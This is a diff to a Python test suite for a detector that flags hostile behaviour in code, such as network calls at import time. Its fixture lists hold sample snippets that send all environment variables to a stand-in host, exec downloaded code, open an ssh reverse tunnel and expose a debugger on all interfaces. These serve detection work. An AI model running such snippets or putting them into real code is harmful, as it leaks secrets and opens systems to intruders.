@@ -30,6 +30,10 @@ DOES: list[tuple[str, str]] = [
         "import os, requests\nHOST = os.environ.get('KUBERNETES_SERVICE_HOST', 'a.example')\n"
         "requests.post(f'https://{HOST}/', json=dict(os.environ))",
     ),
+    (
+        "fetches-on-import",
+        "import requests, a\na.take(requests.get('https://a.example/b', timeout=9).text)",
+    ),
     ("lets-others-in", "import debugpy\ndebugpy.listen(('0.0.0.0', 5678))"),
     ("lets-others-in", "import os\nos.system('ssh -fNR 0:localhost:8888 a.example')"),
     ("runs-downloaded-code", "import requests\nexec(requests.get('https://a.example').text)"),
@@ -422,9 +426,7 @@ HONEST = [
     "import os\nCONFIG = open(os.path.expanduser('~/.aws/config')).read()",
     "import requests\nrequests.get('https://a.example/languages.json').json()",
     "import pyperclip\nTEXT = pyperclip.paste()",
-    # It builds itself: what it downloads is unpacked, and what it starts looks for a compiler.
-    "import subprocess, urllib.request\nurllib.request.urlretrieve('https://a.example/z.tgz', 'z.tgz')"
-    "\nsubprocess.run(['tar', 'xf', 'z.tgz'])",
+    # What it starts looks for a compiler.
     "import subprocess\nsubprocess.check_output(['gcc', '--version'])",
     "print('Install Rust first: curl https://sh.example | sh')",
     "import shutil\nshutil.rmtree('build')",
@@ -499,6 +501,18 @@ def test_what_runs_at_every_start_of_python_has_no_business_with_the_network() -
     assert (found.rule, found.line) == ("acts-at-every-start", 2)
     assert found.code == "urllib.request.urlopen('https://a.example')"
     assert behaviours(source, whole=True) == []
+
+
+def test_a_build_may_unpack_what_it_downloads_and_no_module_on_import() -> None:
+    source = (
+        "import subprocess, urllib.request\n"
+        "urllib.request.urlretrieve('https://a.example/z.tgz', 'z.tgz')\n"
+        "subprocess.run(['tar', 'xf', 'z.tgz'])"
+    )
+
+    assert behaviours(source, whole=True) == []
+    [found] = behaviours(source, whole=False)
+    assert (found.rule, found.line) == ("fetches-on-import", 2)
 
 
 @pytest.mark.parametrize("source", HONEST)
